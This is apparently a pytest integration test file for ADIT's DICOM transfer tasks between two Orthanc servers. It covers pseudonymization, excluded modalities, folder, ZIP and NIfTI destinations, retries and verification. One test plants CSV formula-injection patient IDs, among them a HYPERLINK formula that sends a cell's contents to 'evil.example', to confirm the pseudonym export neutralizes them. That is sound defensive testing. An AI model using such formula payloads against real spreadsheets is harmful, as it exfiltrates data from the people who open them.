"""Transfer tasks end to end against two real Orthancs: what arrives, and how it looks.

Tasks run in this process through the same entry point a worker uses (``run_task``); the
worker itself, cancel and crash recovery are tested in test_worker_transfers.py.
"""

from __future__ import annotations

import csv
import datetime
import gzip
import io
import struct
from io import BytesIO
from pathlib import Path

import pytest
import pyzipper
from pydicom import Dataset, dcmread

from adit.core.demo.synthetic import StudySummary, generate_ct_series
from adit.core.dicom.operator import DicomOperator
from adit.core.jobs.processing import run_task
from adit.core.jobs.statuses import JobStatus, TaskStatus
from adit.core.models import DicomFolder, DicomServer, Project
from adit.core.tests.example_app.models import ExampleJob, ExampleTask
from adit.core.tests.factories import run_transfer, server_for, unreachable_server
from adit.core.tests.job_pages import stored_row, url

pytestmark = [pytest.mark.integration, pytest.mark.django_db]


@pytest.fixture
def source(orthanc1) -> DicomServer:
    return server_for(orthanc1)


@pytest.fixture
def destination(empty_orthanc2) -> DicomServer:
    return server_for(empty_orthanc2)


@pytest.fixture
def folder(tmp_path) -> DicomFolder:
    return DicomFolder.objects.create(name="Export", path=str(tmp_path / "export"))


def _kept_instances(study: StudySummary, excluded=("PR", "SR")) -> int:
    """Instances of the study left once the excluded modalities are dropped."""
    return sum(series.instance_count for series in study.series if series.modality not in excluded)


def _study(studies: list[StudySummary], with_modality: str | None = None) -> StudySummary:
    for study in studies:
        if with_modality is None or with_modality in study.modalities:
            return study
    raise AssertionError(f"no study with {with_modality}")


def transfer(owner, source, destination, study: StudySummary, **options) -> ExampleTask:
    """Creates a one-task job and runs the task as a worker would; returns it refreshed."""
    return run_transfer(
        owner, source, destination, study.patient_id, study.study_instance_uid, **options
    )


def _instances_at(server: DicomServer, study_uid: str) -> list[Dataset]:
    """Every instance the server holds of the study, as full datasets."""
    received: list[Dataset] = []
    DicomOperator(server).fetch_study("", study_uid, received.append)
    return received


def _all_texts(dataset: Dataset) -> str:
    """Every value in the dataset, nested sequences and file meta included, as one string."""
    parts: list[str] = []

    def walk(ds: Dataset) -> None:
        for element in ds:
            if element.VR == "SQ":
                for item in element.value:
                    walk(item)
            elif element.VR not in ("OB", "OW", "OF", "OD", "OL", "UN"):
                parts.append(str(element.value))

    walk(dataset)
    if hasattr(dataset, "file_meta"):
        walk(dataset.file_meta)
    return "\n".join(parts)


def test_server_to_server_copies_every_instance_unchanged(
    member, source, destination, orthanc1_studies
):
    study = _study(orthanc1_studies)
    task = transfer(member, source, destination, study)

    assert (task.status, task.message) == (
        TaskStatus.SUCCESS,
        "Transfer task completed successfully.",
    )
    assert task.job.status == JobStatus.SUCCESS
    arrived = destination_uids = {
        str(ds.SOPInstanceUID) for ds in _instances_at(destination, study.study_instance_uid)
    }
    expected = {uid for series in study.series for uid in series.sop_instance_uids}
    assert arrived == expected
    assert destination_uids  # the study is not empty
    assert task.progress_done == study.instance_count
    assert f"holds all {study.instance_count} instance(s) that ORTHANC1 holds" in task.log


def test_pseudonymized_transfer_leaves_no_identity_and_keeps_dates(
    member, source, destination, orthanc1_studies
):
    study = _study(orthanc1_studies)
    task = transfer(member, source, destination, study, pseudonym="SUBJ-001")
    assert task.status == TaskStatus.SUCCESS, task.message

    assert task.pseudonymized_study_uid and task.pseudonymized_study_uid != study.study_instance_uid
    arrived = _instances_at(destination, task.pseudonymized_study_uid)
    assert arrived
    family_name = study.patient_name.split("^")[0]
    for dataset in arrived:
        assert (dataset.PatientID, str(dataset.PatientName)) == ("SUBJ-001", "SUBJ-001")
        texts = _all_texts(dataset)
        assert study.patient_id not in texts
        assert family_name not in texts
        assert study.patient_birth_date not in texts
        assert study.accession_number not in texts
        assert dataset.StudyDate == study.study_date  # dates are kept unless asked otherwise
        assert dataset.PatientIdentityRemoved == "YES"
    assert len({ds.StudyInstanceUID for ds in arrived}) == 1
    # nothing under the original UID arrived
    assert (
        list(DicomOperator(destination).find_studies(StudyInstanceUID=study.study_instance_uid))
        == []
    )


def test_excluded_modalities_are_dropped_only_when_pseudonymizing(
    member, source, destination, orthanc1_studies, settings
):
    settings.EXCLUDE_MODALITIES = ["SR"]
    study = _study(orthanc1_studies, with_modality="SR")
    kept = sum(series.instance_count for series in study.series if series.modality != "SR")

    task = transfer(member, source, destination, study, pseudonym="SUBJ-SR")
    assert task.status == TaskStatus.SUCCESS, task.message
    modalities = {ds.Modality for ds in _instances_at(destination, task.pseudonymized_study_uid)}
    assert "SR" not in modalities
    assert task.progress_done == kept
    left_out = sum(series.instance_count for series in study.series if series.modality == "SR")
    # The user learns what stayed behind and why, not only "completed successfully".
    assert task.message == (
        f"Transfer task completed successfully. Left out: {left_out} SR instance(s), as the "
        "modalities SR are excluded when pseudonymizing (setting EXCLUDE_MODALITIES)."
    )
    assert f"(SR, {left_out} instance(s)) left out" in task.log

    plain = transfer(member, source, destination, study)
    assert plain.status == TaskStatus.SUCCESS
    assert plain.message == "Transfer task completed successfully."
    arrived = _instances_at(destination, study.study_instance_uid)
    assert "SR" in {ds.Modality for ds in arrived}


def test_same_project_gives_the_same_pseudonymized_uids_across_jobs(
    member, source, destination, orthanc1_studies
):
    study = _study(orthanc1_studies)
    project = Project.objects.create(name="Lung study")
    first = transfer(member, source, destination, study, pseudonym="P1", project=project)
    second = transfer(member, source, destination, study, pseudonym="P1", project=project)
    other = transfer(member, source, destination, study, pseudonym="P1")

    assert first.pseudonymized_study_uid == second.pseudonymized_study_uid
    assert other.pseudonymized_study_uid != first.pseudonymized_study_uid
    # Stored twice with identical UIDs: the destination holds each instance once.
    arrived = _instances_at(destination, first.pseudonymized_study_uid)
    assert len(arrived) == _kept_instances(study)


def test_series_subset_is_all_that_arrives(member, source, destination, orthanc1_studies):
    study = next(s for s in orthanc1_studies if len(s.series) > 1)
    chosen = study.series[0]
    task = transfer(member, source, destination, study, series_uids=[chosen.series_instance_uid])
    assert task.status == TaskStatus.SUCCESS, task.message
    arrived = _instances_at(destination, study.study_instance_uid)
    assert {str(ds.SOPInstanceUID) for ds in arrived} == set(chosen.sop_instance_uids)


def test_unknown_study_fails_with_a_clear_message(member, source, destination, orthanc1_studies):
    study = _study(orthanc1_studies)
    missing = StudySummary(**{**study.__dict__, "study_instance_uid": "1.2.3.4.5.6.7"})
    task = transfer(member, source, destination, missing)
    assert (task.status, task.message) == (
        TaskStatus.FAILURE,
        "No study found with Study Instance UID 1.2.3.4.5.6.7.",
    )
    assert task.job.status == JobStatus.FAILURE
    assert task.job.message == "All tasks failed."


def test_mismatching_patient_id_transfers_with_a_warning(
    member, source, destination, orthanc1_studies
):
    study = _study(orthanc1_studies)
    renamed = StudySummary(**{**study.__dict__, "patient_id": "MERGED-4711"})
    task = transfer(member, source, destination, renamed)
    assert task.status == TaskStatus.WARNING
    assert "Mismatching patient IDs" in task.message and study.patient_id in task.message
    assert task.job.status == JobStatus.WARNING
    assert len(_instances_at(destination, study.study_instance_uid)) == study.instance_count


def test_unreachable_source_will_be_retried(member, destination, orthanc1_studies):
    closed = unreachable_server()
    task = transfer(member, closed, destination, _study(orthanc1_studies))
    assert task.status == TaskStatus.PENDING
    assert task.message.startswith("Task failed, but will be retried (attempt 2 of 3")
    assert task.queued_job_id is not None  # back in the queue, scheduled for later
    assert "connection refused" in task.log.lower()
    assert task.job.status == JobStatus.PENDING


def test_folder_destination_uses_the_documented_layout(member, source, folder, orthanc1_studies):
    study = _study(orthanc1_studies)
    task = transfer(member, source, folder, study, pseudonym="SUBJ-7")
    assert task.status == TaskStatus.SUCCESS, task.message

    job = task.job
    job_folder = f"adit_example_app_{job.pk}_{job.created:%Y%m%d}_{member.username}"
    files = sorted(Path(folder.path).rglob("*.dcm"))
    assert len(files) == _kept_instances(study)
    modalities = sorted(set(study.modalities) - {"PR", "SR"})
    study_folder = f"{study.study_date}-{study.study_time[:6]}-{','.join(modalities)}"
    for path in files:
        relative = path.relative_to(folder.path)
        assert relative.parts[:3] == (job_folder, "SUBJ-7", study_folder)
        dataset = dcmread(path)
        assert relative.parts[4] == f"{dataset.SOPInstanceUID}.dcm"
        assert relative.parts[3].startswith(f"{dataset.SeriesNumber}-")
        assert dataset.PatientID == "SUBJ-7"
    assert not list(Path(folder.path).rglob("*.partial"))


def test_zip_destination_needs_the_password_which_is_deleted_when_the_job_ends(
    member, source, folder, orthanc1_studies
):
    studies = orthanc1_studies[:2]
    job = ExampleJob.objects.create(
        owner=member, status=JobStatus.PENDING, archive_password="s3cret!"
    )
    tasks = [
        ExampleTask.objects.create(
            job=job,
            source=source,
            destination=folder,
            patient_id=study.patient_id,
            study_uid=study.study_instance_uid,
            pseudonym=f"Z{number}",
        )
        for number, study in enumerate(studies)
    ]

    run_task(None, tasks[0]._meta.label_lower, tasks[0].pk)
    job.refresh_from_db()
    assert job.status == JobStatus.IN_PROGRESS  # the second study is still to come
    assert "s3cret!" not in stored_row(job)
    assert job.archive_password == "s3cret!"

    run_task(None, tasks[1]._meta.label_lower, tasks[1].pk)
    job.refresh_from_db()
    assert job.status == JobStatus.SUCCESS, job.message
    assert job.encrypted_archive_password == ""
    assert "s3cret!" not in stored_row(job)

    archives = sorted(Path(folder.path).rglob("*.zip"))
    assert len(archives) == 2
    assert not list(Path(folder.path).rglob("*.dcm"))
    for archive, study, pseudonym in zip(archives, studies, ["Z0", "Z1"], strict=True):
        with pyzipper.AESZipFile(archive) as zipped:
            names = [name for name in zipped.namelist() if name.endswith(".dcm")]
            assert len(names) == _kept_instances(study)
            with pytest.raises(RuntimeError):
                zipped.read(names[0])
            zipped.setpassword(b"s3cret!")
            assert dcmread(BytesIO(zipped.read(names[0]))).PatientID == pseudonym


def test_zip_job_that_lost_its_password_writes_nothing(member, source, folder, orthanc1_studies):
    """Should a job whose password is gone run anyway (the actions refuse to), it must fail
    instead of writing the ZIPs without a password."""
    study = _study(orthanc1_studies)
    job = ExampleJob.objects.create(
        owner=member, status=JobStatus.PENDING, encrypt_archive=True, encrypted_archive_password=""
    )
    task = ExampleTask.objects.create(
        job=job,
        source=source,
        destination=folder,
        patient_id=study.patient_id,
        study_uid=study.study_instance_uid,
        pseudonym="Z1",
    )

    run_task(None, task._meta.label_lower, task.pk)

    task.refresh_from_db()
    assert task.status == TaskStatus.FAILURE
    assert "its password was deleted when the job ended" in task.message
    assert not [path for path in Path(folder.path).rglob("*") if path.is_file()]


def test_pseudonym_mapping_neutralizes_formulas_from_the_pacs(
    client, member, empty_orthanc2, folder
):
    hostile_ids = ['=HYPERLINK("https://evil.example/?"&B2,"Details")', "+1", "@SUM(1)"]
    for seed, patient_id in enumerate(hostile_ids):
        study = list(generate_ct_series(2, rows=16, columns=16, seed=seed))
        for dataset in study:
            dataset.PatientID = patient_id
        empty_orthanc2.upload(study)
    source = server_for(empty_orthanc2)
    job = ExampleJob.objects.create(owner=member, status=JobStatus.PENDING)
    # The IDs as the PACS answers a search, as selective transfer takes them.
    for number, found in enumerate(DicomOperator(source).find_studies(PatientID="*")):
        task = ExampleTask.objects.create(
            job=job,
            source=source,
            destination=folder,
            patient_id=found.PatientID,
            study_uid=found.StudyInstanceUID,
            pseudonym=f"SUBJ-{number}",
        )
        run_task(None, task._meta.label_lower, task.pk)
    job.refresh_from_db()
    assert job.status == JobStatus.SUCCESS, job.message
    client.force_login(member)

    response = client.get(url("job_pseudonyms", job))

    assert "no-store" in response["Cache-Control"].split(", ")
    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    assert sorted(row[0] for row in rows[1:]) == sorted(f"'{value}" for value in hostile_ids)
    assert all(row[3] for row in rows[1:])  # each transferred, under its pseudonymized UID


def test_nifti_destination_writes_volumes(member, source, folder, orthanc1_studies):
    study = _study(orthanc1_studies, with_modality="CT")
    task = transfer(member, source, folder, study, pseudonym="N1", convert_to_nifti=True)
    assert task.status in (TaskStatus.SUCCESS, TaskStatus.WARNING), task.message

    volumes = sorted(Path(folder.path).rglob("*.nii.gz"))
    assert volumes, task.log
    assert list(Path(folder.path).rglob("*.json"))
    assert not list(Path(folder.path).rglob("*.dcm"))
    with gzip.open(volumes[0]) as nifti:
        header = nifti.read(348)
    assert struct.unpack("<i", header[:4])[0] == 348
    dims = struct.unpack("<8h", header[40:56])
    assert dims[0] >= 3 and all(size > 0 for size in dims[1:4])


def test_finish_mail_is_sent_when_asked(
    member, source, destination, orthanc1_studies, mailoutbox, django_capture_on_commit_callbacks
):
    member.email = "alice@example.org"
    member.save()
    with django_capture_on_commit_callbacks(execute=True):
        transfer(member, source, destination, _study(orthanc1_studies), send_finished_mail=True)
    (mail,) = mailoutbox
    assert mail.to == ["alice@example.org"]
    assert "finished" in mail.subject and "Success" in mail.subject
    assert "All tasks succeeded." in mail.body


def test_dates_can_be_shifted_on_request(member, source, destination, orthanc1_studies):
    study = _study(orthanc1_studies)
    task = transfer(member, source, destination, study, pseudonym="D1", shift_dates=True)
    assert task.status == TaskStatus.SUCCESS, task.message
    (first, *_) = _instances_at(destination, task.pseudonymized_study_uid)
    original = datetime.datetime.strptime(study.study_date, "%Y%m%d").date()
    shifted = datetime.datetime.strptime(first.StudyDate, "%Y%m%d").date()
    assert 62 <= (original - shifted).days <= 731


@pytest.mark.parametrize("kind", ["c-get", "c-move", "dicomweb"])
def test_every_source_protocol_delivers_the_study(
    kind, member, orthanc1, destination, orthanc1_studies, receiving
):
    source = server_for(orthanc1, kind=kind)
    study = _study(orthanc1_studies)
    task = transfer(member, source, destination, study, pseudonym=f"SRC-{kind}")
    assert task.status == TaskStatus.SUCCESS, task.message
    arrived = _instances_at(destination, task.pseudonymized_study_uid)
    assert len(arrived) == _kept_instances(study)


def test_stow_destination_receives_and_is_verified_by_qido(
    member, source, empty_orthanc2, orthanc1_studies
):
    web_only = server_for(
        empty_orthanc2,
        host="",
        port=None,
        study_root_find_support=False,
        study_root_get_support=False,
        store_scp_support=False,
        dicomweb_root_url=empty_orthanc2.dicomweb_root,
        dicomweb_qido_support=True,
        dicomweb_wado_support=True,
        dicomweb_stow_support=True,
    )
    study = _study(orthanc1_studies)
    task = transfer(member, source, web_only, study)
    assert task.status == TaskStatus.SUCCESS, task.message
    assert empty_orthanc2.count_instances() == study.instance_count
    assert f"holds all {study.instance_count} instance(s) that ORTHANC1 holds" in task.log


def test_unmodified_transfer_goes_straight_from_pacs_to_pacs_when_allowed(
    member, orthanc1, destination, orthanc1_studies
):
    source = server_for(orthanc1, study_root_move_support=True, moves_to_destinations=True)
    study = _study(orthanc1_studies)
    task = transfer(member, source, destination, study)

    assert task.status == TaskStatus.SUCCESS, task.message
    assert "moves the study straight to ORTHANC2" in task.log
    assert f"holds all {study.instance_count} instance(s) that ORTHANC1 holds" in task.log
    held = {str(ds.SOPInstanceUID) for ds in _instances_at(destination, study.study_instance_uid)}
    assert held == {uid for series in study.series for uid in series.sop_instance_uids}
    assert task.progress_done == study.instance_count

    # Pseudonymized data must pass through ADIT, whatever the option says.
    pseudonymized = transfer(member, source, destination, study, pseudonym="VIA-ADIT")
    assert pseudonymized.status == TaskStatus.SUCCESS, pseudonymized.message
    assert "straight" not in pseudonymized.log


def test_direct_move_to_a_destination_the_pacs_does_not_know_fails_clearly(
    member, orthanc1, orthanc1_studies, empty_orthanc2
):
    source = server_for(orthanc1, study_root_move_support=True, moves_to_destinations=True)
    unknown = DicomServer.objects.create(
        name="Unknown to ORTHANC1",
        ae_title="NOTKNOWN",
        host="127.0.0.1",
        port=empty_orthanc2.dicom_port,
        study_root_find_support=True,
        store_scp_support=True,
    )
    task = transfer(member, source, unknown, _study(orthanc1_studies))
    assert task.status == TaskStatus.FAILURE
    assert "C-MOVE on ORTHANC1 failed" in task.message
    assert "check that ORTHANC1 knows this AE title" in task.message and "NOTKNOWN" in task.message
    assert empty_orthanc2.count_instances() == 0


def test_last_attempt_of_a_transient_error_fails_with_the_error(
    member, destination, orthanc1_studies
):
    closed = unreachable_server()
    study = _study(orthanc1_studies)
    job = ExampleJob.objects.create(owner=member, status=JobStatus.PENDING)
    task = ExampleTask.objects.create(
        job=job,
        source=closed,
        destination=destination,
        patient_id=study.patient_id,
        study_uid=study.study_instance_uid,
        attempts=2,  # two attempts already failed
    )
    run_task(None, task._meta.label_lower, task.pk)
    task.refresh_from_db()
    assert (task.status, task.attempts) == (TaskStatus.FAILURE, 3)
    assert "Could not connect to Closed" in task.message
    job.refresh_from_db()
    assert (job.status, job.message) == (JobStatus.FAILURE, "All tasks failed.")


def test_a_task_running_past_the_timeout_fails_saying_so(
    member, source, destination, orthanc1_studies, settings
):
    settings.DICOM_TASK_TIMEOUT = 0
    task = transfer(member, source, destination, _study(orthanc1_studies))
    assert task.status == TaskStatus.FAILURE
    assert task.message == "Task was aborted due to timeout: it ran longer than 0 minutes."


def test_verification_names_instances_the_destination_lost(
    source, destination, empty_orthanc2, orthanc1_studies
):
    """The check after storing: counts agree → fine; an instance gone → failure naming it."""
    from adit.core.dicom.errors import DicomError
    from adit.core.jobs.processing import TaskLog
    from adit.core.transfer.destinations import ServerDestination

    study = next(s for s in orthanc1_studies if any(x.instance_count > 2 for x in s.series))
    series = next(x for x in study.series if x.instance_count > 2)
    fetched: list[Dataset] = []
    DicomOperator(source).fetch_series(
        study.patient_id, study.study_instance_uid, series.series_instance_uid, fetched.append
    )
    log = TaskLog()
    check = ServerDestination(destination, log)
    assert check.consume(fetched) == series.instance_count

    key = (study.patient_id, study.study_instance_uid, series.series_instance_uid)
    check.verify(log, {key: series.instance_count}, "ORTHANC1")
    assert f"holds all {series.instance_count} instance(s) that ORTHANC1 holds" in log.text()

    lost = str(fetched[1].SOPInstanceUID)
    (instance_id,) = empty_orthanc2.rest(
        "POST", "/tools/find", {"Level": "Instance", "Query": {"SOPInstanceUID": lost}}
    )
    empty_orthanc2.rest("DELETE", f"/instances/{instance_id}")
    total = series.instance_count
    with pytest.raises(DicomError, match=rf"holds only {total - 1} of the {total} .*{lost}"):
        check.verify(TaskLog(), {key: total}, "ORTHANC1")


def test_verification_compares_with_the_source_not_with_what_was_sent(
    source, destination, orthanc1_studies
):
    """An instance that never left the source is missing at the destination too, even when
    everything sent arrived."""
    from adit.core.dicom.errors import DicomError
    from adit.core.jobs.processing import TaskLog
    from adit.core.transfer.destinations import ServerDestination

    study = next(s for s in orthanc1_studies if any(x.instance_count > 2 for x in s.series))
    series = next(x for x in study.series if x.instance_count > 2)
    fetched: list[Dataset] = []
    DicomOperator(source).fetch_series(
        study.patient_id, study.study_instance_uid, series.series_instance_uid, fetched.append
    )
    check = ServerDestination(destination, TaskLog())
    check.consume(fetched[:-1])  # one instance short, as a cut-off fetch would be
    key = (study.patient_id, study.study_instance_uid, series.series_instance_uid)
    total = series.instance_count
    with pytest.raises(DicomError, match=rf"holds only {total - 1} of the {total} instance"):
        check.verify(TaskLog(), {key: total}, "ORTHANC1")


class _RecordingControl:
    """A control as a caller without a task gives one: it records the progress."""

    def __init__(self) -> None:
        self.reports: list[tuple[int, int | None]] = []

    def check(self) -> None:
        pass

    def progress(self, done: int, total: int | None = None, force: bool = False) -> None:
        self.reports.append((done, total))


def test_a_study_transfers_from_plain_values_without_any_job(source, folder, orthanc1_studies):
    """The pipeline's seam: what a mass-transfer partition or an API call will use."""
    from adit.core.dicom.selection import StudySelection
    from adit.core.jobs.processing import TaskLog
    from adit.core.transfer.pipeline import TransferOptions, TransferRequest, transfer_study

    study = next(s for s in orthanc1_studies if len(s.series) > 1)
    chosen = next(x for x in study.series if x.modality not in ("PR", "SR"))
    claimed: list[tuple[str, str]] = []
    request = TransferRequest(
        source=source,
        destination=folder,
        selection=StudySelection(
            study.patient_id, study.study_instance_uid, (chosen.series_instance_uid,)
        ),
        options=TransferOptions(
            pseudonym="API-1",
            secret="a secret of the caller's",
            claim_pseudonym=lambda patient, pseudonym: claimed.append((patient, pseudonym)),
            job_folder="api_call_7",
        ),
    )
    control = _RecordingControl()
    log = TaskLog()
    result = transfer_study(request, control, log)

    assert claimed == [(study.patient_id, "API-1")]
    assert result.transferred == chosen.instance_count
    assert control.reports[0] == (0, chosen.instance_count)
    assert control.reports[-1][0] == chosen.instance_count
    files = sorted(Path(folder.path).rglob("*.dcm"))
    assert len(files) == chosen.instance_count
    assert {path.relative_to(folder.path).parts[:2] for path in files} == {("api_call_7", "API-1")}
    assert result.study_uid_at_destination == str(dcmread(files[0]).StudyInstanceUID)
    assert result.study_uid_at_destination != study.study_instance_uid
    assert log.warnings == []


def test_a_series_left_out_by_modality_is_not_fetched_at_all(source, folder, orthanc1_studies):
    from adit.core.dicom.selection import StudySelection
    from adit.core.jobs.processing import TaskLog
    from adit.core.transfer.pipeline import TransferOptions, TransferRequest, transfer_study

    study = _study(orthanc1_studies, with_modality="PR")
    excluded = next(x for x in study.series if x.modality == "PR")
    request = TransferRequest(
        source=source,
        destination=folder,
        selection=StudySelection(
            study.patient_id, study.study_instance_uid, (excluded.series_instance_uid,)
        ),
        options=TransferOptions(pseudonym="API-2", secret="another secret"),
    )
    log = TaskLog()
    result = transfer_study(request, _RecordingControl(), log)
    assert result.transferred == 0
    assert result.study.left_out == {"PR": excluded.instance_count}
    assert not list(Path(folder.path).rglob("*.dcm"))
    assert log.warnings == ["The study has no instances to transfer."]


def test_one_instance_transfers_on_its_own(source, folder, orthanc1_studies):
    from adit.core.dicom.selection import StudySelection
    from adit.core.jobs.processing import TaskLog
    from adit.core.transfer.pipeline import TransferOptions, TransferRequest, transfer_study

    study = next(s for s in orthanc1_studies if any(x.instance_count > 2 for x in s.series))
    series = next(x for x in study.series if x.instance_count > 2)
    sop_uid = series.sop_instance_uids[1]
    request = TransferRequest(
        source=source,
        destination=folder,
        selection=StudySelection(
            study.patient_id, study.study_instance_uid, (series.series_instance_uid,), sop_uid
        ),
        options=TransferOptions(job_folder="one_instance"),
    )
    result = transfer_study(request, _RecordingControl(), TaskLog())
    assert result.transferred == 1
    (path,) = Path(folder.path).rglob("*.dcm")
    assert path.name == f"{sop_uid}.dcm"
    assert str(dcmread(path).SOPInstanceUID) == sop_uid
